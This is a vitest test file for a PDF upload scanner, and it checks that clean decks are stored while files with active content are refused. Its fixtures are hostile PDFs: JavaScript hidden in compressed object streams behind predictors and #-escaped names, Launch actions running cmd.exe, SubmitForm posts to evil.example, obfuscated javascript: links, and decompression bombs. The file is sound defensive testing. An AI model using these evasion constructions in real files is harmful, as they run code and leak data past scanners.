// PDF uploads: stored byte-for-byte after header/EOF checks and an active-content scan.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";
import { PDFDocument, PDFName, PDFString } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { inspectPdf } from "../../media/pdf.ts";
import { LocalMediaStorage } from "../../media/storage.ts";
import { contentTypeForKey, isUploadError, processUpload, type UploadErrorCode } from "../../media/uploads.ts";

type PdfObject = string | { dict: string; stream: Buffer } | { raw: Buffer };

/**
 * A real PDF: numbered objects (latin1 strings; { dict, stream } bodies get a computed /Length;
 * { raw } bodies are written as they are), a cross-reference table with correct byte offsets,
 * trailer and %%EOF.
 */

function buildPdf(objects: PdfObject[], trailerExtra = ""): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n", "latin1")];
  let length = parts[0].length;
  const push = (b: Buffer) => {
    parts.push(b);
    length += b.length;
  };
  const offsets: number[] = [];
  objects.forEach((obj, i) => {
    offsets.push(length);
    if (typeof obj === "string") push(Buffer.from(`${i + 1} 0 obj\n${obj}\nendobj\n`, "latin1"));
    else if ("raw" in obj) {
      push(Buffer.from(`${i + 1} 0 obj\n`, "latin1"));
      push(obj.raw);
      push(Buffer.from("\nendobj\n", "latin1"));
    } else {
      push(Buffer.from(`${i + 1} 0 obj\n<< ${obj.dict} /Length ${obj.stream.length} >>\nstream\n`, "latin1"));
      push(obj.stream);
      push(Buffer.from("\nendstream\nendobj\n", "latin1"));
    }
  });
  const xref = length;
  const table = offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("");
  push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`,
      "latin1",
    ),
  );
  return Buffer.concat(parts);
}

const page = (catalogExtra = "") => [
  `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>`,
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
  // A Flate-compressed content stream: binary data the scanner must not trip over.
  {
    dict: "/Filter /FlateDecode",
    stream: deflateSync(Buffer.from("BT /F1 24 Tf 72 760 Td (CloudFair project deck) Tj ET\n")),
  },
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];

async function rejection(bytes: Buffer): Promise<{ code: UploadErrorCode; params: Record<string, string | number> }> {
  try {
    await inspectPdf(bytes);
  } catch (e) {
    if (!isUploadError(e)) throw e;
    return { code: e.code, params: e.params };
  }
  throw new Error("expected an UploadError");
}

let root: string;
beforeAll(async () => {
  root = await mkdtemp(path.join(tmpdir(), "cloudfair-pdf-"));
});
afterAll(() => rm(root, { recursive: true, force: true }));

describe("the fixture", () => {
  it("is a structurally valid PDF (xref offsets point at their objects)", async () => {
    const pdf = buildPdf(page());
    const text = pdf.toString("latin1");
    const startxref = Number(/startxref\n(\d+)\n%%EOF\n$/.exec(text)?.[1]);
    expect(text.slice(startxref, startxref + 4)).toBe("xref");
    const offsets = [...text.slice(startxref).matchAll(/^(\d{10}) 00000 n $/gm)].map((m) => Number(m[1]));
    expect(offsets).toHaveLength(5);
    offsets.forEach((o, i) => expect(text.slice(o, o + `${i + 1} 0 obj`.length)).toBe(`${i + 1} 0 obj`));
  });
});

describe("processUpload: PDFs", () => {
  it("stores a clean PDF byte-for-byte under a content-addressed key", async () => {
    const storage = new LocalMediaStorage(root);
    const pdf = buildPdf(page());
    const stored = await processUpload(storage, {
      bytes: pdf,
      filename: "项目 路演.pdf",
      declaredType: "application/pdf",
      expect: "pdf",
      keyPrefix: "projects/p1",
    });
    expect(stored).toEqual({
      key: expect.stringMatching(/^projects\/p1\/[0-9a-f]{16}\.pdf$/),
      contentType: "application/pdf",
      bytes: pdf.length,
      originalName: "项目 路演.pdf",
    });
    expect(stored.thumbKey).toBeUndefined();
    expect((await storage.get(stored.key))?.equals(pdf)).toBe(true);
    expect(contentTypeForKey(stored.key)).toBe("application/pdf");
    const again = await processUpload(storage, {
      bytes: pdf,
      filename: "copy.pdf",
      expect: "pdf",
      keyPrefix: "projects/p1",
    });
    expect(again.key).toBe(stored.key);
  });

  it("rejects a PDF whose bytes are a PNG, and a PDF that is not what its .jpg name says", async () => {
    const storage = new LocalMediaStorage(root);
    const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
    await expect(
      processUpload(storage, { bytes: png, filename: "deck.pdf", expect: "pdf", keyPrefix: "projects/p2" }),
    ).rejects.toMatchObject({ code: "type-mismatch" });
    await expect(
      processUpload(storage, {
        bytes: buildPdf(page()),
        filename: "deck.jpg",
        expect: "pdf",
        keyPrefix: "projects/p2",
      }),
    ).rejects.toMatchObject({ code: "type-mismatch" });
    expect(await storage.exists("projects/p2")).toBe(false);
  });
});

describe("inspectPdf", () => {
  it("accepts a clean PDF, including CRLF line ends and trailing whitespace after %%EOF", async () => {
    await expect(inspectPdf(buildPdf(page()))).resolves.toBeUndefined();
    const crlf = Buffer.from(buildPdf(page()).toString("latin1").replace(/\n/g, "\r\n") + "\r\n\r\n", "latin1");
    await expect(inspectPdf(crlf)).resolves.toBeUndefined();
    // URI links and an OpenAction that only sets the view are fine.
    await expect(
      inspectPdf(buildPdf(page("/OpenAction [3 0 R /Fit] /URI << /Base (https://cloudfair.cn/) >>"))),
    ).resolves.toBeUndefined();
  });

  it("rejects a bad header and a truncated file as corrupt", async () => {
    const pdf = buildPdf(page());
    expect((await rejection(Buffer.concat([Buffer.from("%PDF-x"), pdf.subarray(6)]))).code).toBe("corrupt");
    expect(await rejection(pdf.subarray(0, Math.floor(pdf.length * 0.7)))).toEqual({
      code: "corrupt",
      params: { reason: "no %%EOF (truncated?)" },
    });
  });

  it("rejects JavaScript actions, also with #-escaped names", async () => {
    const js = buildPdf([
      ...page("/OpenAction 6 0 R "),
      "<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>",
    ]);
    expect(await rejection(js)).toEqual({ code: "active-content", params: { name: "JavaScript" } });
    const escaped = buildPdf([
      ...page("/OpenAction 6 0 R "),
      "<< /Type /Action /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>",
    ]);
    expect(escaped.includes("JavaScript")).toBe(false);
    expect(await rejection(escaped)).toEqual({ code: "active-content", params: { name: "JavaScript" } });
    const namesTree = buildPdf([
      ...page("/Names << /JavaScript 6 0 R >> "),
      "<< /Names [(init) 7 0 R] >>",
      "<< /S /JavaScript /JS (this.print\\(\\)) >>",
    ]);
    expect((await rejection(namesTree)).code).toBe("active-content");
  });

  it("rejects Launch actions", async () => {
    const launch = buildPdf([...page("/OpenAction 6 0 R "), "<< /S /Launch /F (cmd.exe) >>"]);
    expect(await rejection(launch)).toEqual({ code: "active-content", params: { name: "Launch" } });
  });

  it("finds JavaScript hidden in a compressed object stream", async () => {
    const objects = "6 0 7 60 ";
    const body = `<< /S /JavaScript /JS 7 0 R >>`.padEnd(60, " ") + "(app.alert\\(1\\))";
    const objStm = {
      dict: `/Type /ObjStm /N 2 /First ${objects.length} /Filter /FlateDecode`,
      stream: deflateSync(Buffer.from(objects + body, "latin1")),
    };
    const hidden = buildPdf([...page("/OpenAction 6 0 R "), objStm]);
    expect(hidden.includes("JavaScript")).toBe(false); // invisible to a plain byte scan
    expect(await rejection(hidden)).toEqual({ code: "active-content", params: { name: "JavaScript" } });

    // An object stream of harmless objects passes.
    const clean = {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      stream: deflateSync(Buffer.from("6 0 << /Title (Deck) >>", "latin1")),
    };
    await expect(inspectPdf(buildPdf([...page(), clean]))).resolves.toBeUndefined();
    // One we cannot decode is refused rather than waved through.
    const broken = {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      stream: Buffer.from("not zlib data at all"),
    };
    expect((await rejection(buildPdf([...page(), broken]))).code).toBe("corrupt");
    const lzw = {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode`,
      stream: Buffer.from("\x80\x0b\x60\x50", "latin1"),
    };
    expect(await rejection(buildPdf([...page(), lzw]))).toEqual({
      code: "corrupt",
      params: { reason: "object stream filter LZWDecode" },
    });
  });

  it("rejects an object stream that inflates beyond its budget", async () => {
    const bomb = {
      dict: `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`,
      stream: deflateSync(Buffer.alloc(17 * 1024 * 1024, 0x20)),
    };
    expect(bomb.stream.length).toBeLessThan(100_000);
    expect(await rejection(buildPdf([...page(), bomb]))).toEqual({
      code: "corrupt",
      params: { reason: "object streams too large" },
    });
  });

  it("rejects encrypted PDFs, which cannot be inspected", async () => {
    const encrypted = buildPdf(
      [...page(), "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1340 /O <00> /U <00> >>"],
      "/Encrypt 6 0 R /ID [<01> <01>] ",
    );
    expect(await rejection(encrypted)).toEqual({ code: "encrypted", params: {} });
  });
});

// ---------------------------------------------------------------------------------------------
// Issue 14: files that got past the byte scan, and the kinds of active content it never looked for.

/** PNG "Up" predictor rows (what /DecodeParms << /Predictor 12 /Columns n >> undoes). */
function pngUp(data: Buffer, columns: number): Buffer {
  const rows: Buffer[] = [];
  for (let at = 0, prev = Buffer.alloc(columns); at < data.length; at += columns) {
    const row = Buffer.alloc(columns);
    data.copy(row, 0, at, Math.min(at + columns, data.length));
    rows.push(Buffer.from([2]), Buffer.from(row.map((b, i) => (b - prev[i]) & 0xff)));
    prev = row;
  }
  return Buffer.concat(rows);
}

/** An object stream holding `bodies` as objects 6, 7, … (its own object number comes from its position). */
function objectStream(bodies: string[], opts: { predictor?: number; type?: string } = {}) {
  let header = "";
  let data = "";
  bodies.forEach((b, i) => {
    header += `${6 + i} ${data.length} `;
    data += b + "\n";
  });
  const plain = Buffer.from(header + data, "latin1");
  const parms = opts.predictor ? ` /DecodeParms << /Predictor 12 /Columns ${opts.predictor} >>` : "";
  return {
    dict: `/Type /${opts.type ?? "ObjStm"} /N ${bodies.length} /First ${header.length} /Filter /FlateDecode${parms}`,
    stream: deflateSync(opts.predictor ? pngUp(plain, opts.predictor) : plain),
  };
}

/** A page whose single link annotation (object 6, or given) carries `action`. */
const linkPage = (action: string) => [
  ...page(),
  `<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>`,
];
const withAnnots = (objs: PdfObject[], annots: string) => {
  const copy = [...objs];
  copy[2] = (copy[2] as string).replace(" /Contents", ` /Annots ${annots} /Contents`);
  return copy;
};
const link = (action: string) => buildPdf(withAnnots(linkPage(action), "[6 0 R]"));

/**
 * The same file with a cross-reference *stream* (PDF 1.5+): rows of /W [1 4 2] with a PNG Up
 * predictor, as most writers produce today. Objects may live in object streams (`inStream`).
 */
function buildXrefStreamPdf(objects: PdfObject[], opts: { bomb?: boolean } = {}): Buffer {
  const plain = buildPdf(objects);
  const text = plain.toString("latin1");
  const body = plain.subarray(0, text.lastIndexOf("xref\n"));
  const offsets = [...text.matchAll(/^(\d{10}) 00000 n $/gm)].map((m) => Number(m[1]));
  const size = objects.length + 2;
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r.writeUInt8(type, 0);
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    return r;
  };
  const rows = Buffer.concat([row(0, 0, 65535), ...offsets.map((o) => row(1, o, 0)), row(1, body.length, 0)]);
  const data = opts.bomb ? deflateSync(Buffer.alloc(17 * 1024 * 1024)) : deflateSync(pngUp(rows, 7));
  const xref = Buffer.concat([
    Buffer.from(
      `${size - 1} 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R /Filter /FlateDecode ` +
        `/DecodeParms << /Predictor 12 /Columns 7 >> /Length ${data.length} >>\nstream\n`,
      "latin1",
    ),
    data,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`, "latin1"),
  ]);
  return Buffer.concat([body, xref]);
}

describe("inspectPdf: hostile files (issue 14)", () => {
  it("sees through a comment between '>>' and 'stream' around an object stream", async () => {
    const hidden = objectStream(["<< /S /SubmitForm /F (https://evil.example/collect) >>"]);
    const raw = Buffer.concat([
      Buffer.from(
        `<< ${hidden.dict} /Length ${hidden.stream.length} >> % a comment the old scan stumbled on\nstream\n`,
      ),
      hidden.stream,
      Buffer.from("\nendstream"),
    ]);
    const pdf = buildPdf([...page("/OpenAction 6 0 R "), { raw }]);
    expect(pdf.includes("SubmitForm")).toBe(false);
    expect(await rejection(pdf)).toEqual({ code: "active-content", params: { name: "SubmitForm" } });
  });

  it("undoes a PNG predictor on an object stream: hidden JavaScript is found, a harmless one passes", async () => {
    const js = objectStream(["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"], { predictor: 5 });
    const hostile = buildPdf([...page("/OpenAction 6 0 R "), js]);
    expect(hostile.includes("JavaScript")).toBe(false);
    expect(await rejection(hostile)).toEqual({ code: "active-content", params: { name: "JavaScript" } });
    // A link hidden the same way is judged by its target once decoded.
    const annot = (uri: string) =>
      objectStream([`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${uri}) >> >>`], {
        predictor: 7,
      });
    const bad = buildPdf([...withAnnots(page(), "[6 0 R]"), annot("javascript:alert(1)")]);
    expect(await rejection(bad)).toEqual({ code: "active-content", params: { name: "URI" } });
    await expect(
      inspectPdf(buildPdf([...withAnnots(page(), "[6 0 R]"), annot("https://cloudfair.cn/deck")])),
    ).resolves.toBeUndefined();
  });

  it("expands any stream with /First and /N that a viewer could read as an object stream", async () => {
    const disguised = objectStream(["<< /S /Launch /F (calc.exe) >>"], { type: "XObject", predictor: 4 });
    expect(await rejection(buildPdf([...page(), disguised]))).toEqual({
      code: "active-content",
      params: { name: "Launch" },
    });
  });

  it("refuses javascript: links in any casing, spacing or string encoding, and other non-web targets", async () => {
    const hex = (s: string) => `<${Buffer.from(s, "latin1").toString("hex").replace(/(..)/g, "$1 ")}>`;
    const utf16 = (s: string) => `<FEFF${Buffer.from(s, "utf16le").swap16().toString("hex")}>`;
    const targets = [
      "(javascript:app.alert\\(1\\))",
      "(JaVaScRiPt:alert(1))",
      "(JAVASCRIPT:alert(1))",
      "(  \\t\\n javascript:alert(1))",
      "(java\\tscript:alert(1))",
      "(java\\nscr\\ript:alert(1))",
      "(\\000\\037javascript:alert(1))",
      "(\\152ava\\163cript:alert(1))",
      hex(" javascript:alert(1)"),
      utf16("javascript:alert(1)"),
      "(vbscript:msgbox)",
      "(file://///evil.example/share/deck.pdf)",
      "(data:text/html,<script>alert(1)</script>)",
      "(deck.html)",
      "(//evil.example/x)",
    ];
    for (const target of targets)
      expect(await rejection(link(`<< /S /URI /URI ${target} >>`)), target).toEqual({
        code: "active-content",
        params: { name: "URI" },
      });
    // Only the parser sees these: the target behind an indirect reference or after a comment, an
    // escaped key, a non-string target.
    const viaRef = buildPdf([...withAnnots(linkPage("<< /S /URI /URI 7 0 R >>"), "[6 0 R]"), "(javascript:alert(1))"]);
    expect(await rejection(viaRef)).toEqual({ code: "active-content", params: { name: "URI" } });
    for (const action of [
      "<< /S /URI /URI % hidden\n(javascript:alert(1)) >>",
      "<< /S /URI /#55#52#49 (javascript:alert(1)) >>",
      "<< /S /URI /URI /javascript >>",
    ])
      expect(await rejection(link(action)), action).toEqual({ code: "active-content", params: { name: "URI" } });
  });

  it("accepts ordinary https, http, mailto and www. links, and GoTo / named actions in /OpenAction and /AA", async () => {
    for (const target of [
      "(https://cloudfair.cn/projects/42?lang=en)",
      "(HTTP://example.cn)",
      "(mailto:ir@example.cn)",
      "(www.example.cn/deck)",
      "<68747470733a2f2f636c6f75646661692e636e>",
    ])
      await expect(inspectPdf(link(`<< /S /URI /URI ${target} >>`)), target).resolves.toBeUndefined();
    const benign = buildPdf(
      withAnnots(
        linkPage("<< /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >>").map((o, i) =>
          i === 0 ? (o as string).replace(">>", "/OpenAction << /S /GoTo /D [3 0 R /FitH 842] >> >>") : o,
        ),
        "[6 0 R] /AA << /O << /S /Named /N /FirstPage >> >>",
      ),
    );
    await expect(inspectPdf(benign)).resolves.toBeUndefined();
  });

  it("refuses form submission, data import, other files, rich media, XFA and embedded files", async () => {
    const cases: [string, PdfObject[]][] = [
      ["SubmitForm", linkPage("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> /Flags 4 >>")],
      ["ImportData", linkPage("<< /S /ImportData /F (C:\\\\data.fdf) >>")],
      ["GoToE", linkPage("<< /S /GoToE /NewWindow true /T << /R /C /N (a.pdf) >> >>")],
      ["GoToR", linkPage("<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>")],
      ["RichMedia", [...page(), "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"]],
      ["EmbeddedFiles", page("/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> ")],
      ["FileAttachment", [...page(), "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"]],
      ["XFA", page("/AcroForm << /Fields [] /XFA 6 0 R >> ")],
    ];
    for (const [name, objects] of cases)
      expect(await rejection(buildPdf(withAnnots(objects, "[6 0 R]"))), name).toEqual({
        code: "active-content",
        params: { name },
      });
    // Hidden in an object stream with a lower-case #xx escape that pdf-lib itself does not decode.
    const escaped = objectStream(["<< /S /Sub#6ditForm /F (https://evil.example/) >>"], { predictor: 6 });
    expect(await rejection(buildPdf([...page("/OpenAction 6 0 R "), escaped]))).toEqual({
      code: "active-content",
      params: { name: "SubmitForm" },
    });
  });

  it("follows /OpenAction and /AA chains (/Next) to JavaScript, and earlier definitions an update replaced", async () => {
    const chained = buildPdf([
      ...page("/OpenAction 6 0 R "),
      "<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
      objectStream(["", "<< /S /#4aavaScript /#4aS (print\\(\\)) >>"], { predictor: 3 }),
    ]);
    expect(await rejection(chained)).toEqual({ code: "active-content", params: { name: "JavaScript" } });
    // Object 6 is defined twice (an incremental update); a viewer trusting an old xref reads the first.
    const first = objectStream(["<< /S /URI /URI (javascript:alert(1)) >>"]);
    const twice = buildPdf([
      ...page("/OpenAction 6 0 R "),
      { raw: Buffer.from("<< /S /GoTo /D [3 0 R /Fit] >>") },
      first,
    ]);
    expect(await rejection(twice)).toEqual({ code: "active-content", params: { name: "URI" } });
  });

  it("reads a cross-reference stream with a predictor, and refuses one that inflates beyond the budget", async () => {
    await expect(
      inspectPdf(buildXrefStreamPdf(withAnnots(linkPage("<< /S /URI /URI (https://a.cn) >>"), "[6 0 R]"))),
    ).resolves.toBeUndefined();
    expect(await rejection(buildXrefStreamPdf(page(), { bomb: true }))).toEqual({
      code: "corrupt",
      params: { reason: "xref streams too large" },
    });
  });

  it("judges files written by pdf-lib with object streams: a https link passes, a javascript: link does not", async () => {
    async function withLink(uri: string) {
      const doc = await PDFDocument.create();
      const p = doc.addPage([595, 842]);
      p.drawText("CloudFair deck", { x: 72, y: 760 });
      const annot = doc.context.register(
        doc.context.obj({
          Type: "Annot",
          Subtype: "Link",
          Rect: [72, 700, 300, 720],
          A: { S: "URI", URI: PDFString.of(uri) },
        }),
      );
      p.node.set(PDFName.of("Annots"), doc.context.obj([annot]));
      return Buffer.from(await doc.save({ useObjectStreams: true }));
    }
    const good = await withLink("https://cloudfair.cn/deck");
    expect(good.includes("https://cloudfair.cn")).toBe(false); // compressed into an object stream
    await expect(inspectPdf(good)).resolves.toBeUndefined();
    expect(await rejection(await withLink(" JavaScript:alert(1)"))).toEqual({
      code: "active-content",
      params: { name: "URI" },
    });
  });

  it("refuses quickly a file of more objects than any deck needs (parsing cost grows with them)", async () => {
    const tiny = Array.from({ length: 100_001 }, (_, i) => `${i + 1} 0 obj [1] endobj\n`).join("");
    const pdf = Buffer.from(`%PDF-1.7\n${tiny}trailer << /Root 1 0 R >>\n%%EOF\n`, "latin1");
    const t0 = performance.now();
    expect(await rejection(pdf)).toEqual({ code: "corrupt", params: { reason: "too many objects" } });
    expect(performance.now() - t0).toBeLessThan(1000);
    // The same count packed into one object stream is cut off while it is being parsed.
    const packed = objectStream(Array.from({ length: 100_001 }, () => "1"));
    expect(await rejection(buildPdf([...page(), packed]))).toEqual({
      code: "corrupt",
      params: { reason: "too many objects" },
    });
  });

  it("refuses, and never stores, an unreadable file rather than waving it through", async () => {
    const storage = new LocalMediaStorage(root);
    const garbage = Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages (unterminated\nendobj\n%%EOF\n");
    await expect(
      processUpload(storage, { bytes: garbage, filename: "x.pdf", expect: "pdf", keyPrefix: "projects/p3" }),
    ).rejects.toMatchObject({ code: "corrupt" });
    const hostile = link("<< /S /URI /URI (javascript:alert(1)) >>");
    await expect(
      processUpload(storage, { bytes: hostile, filename: "x.pdf", expect: "pdf", keyPrefix: "projects/p3" }),
    ).rejects.toMatchObject({ code: "active-content" });
    expect(await storage.exists("projects/p3")).toBe(false);
  });
});
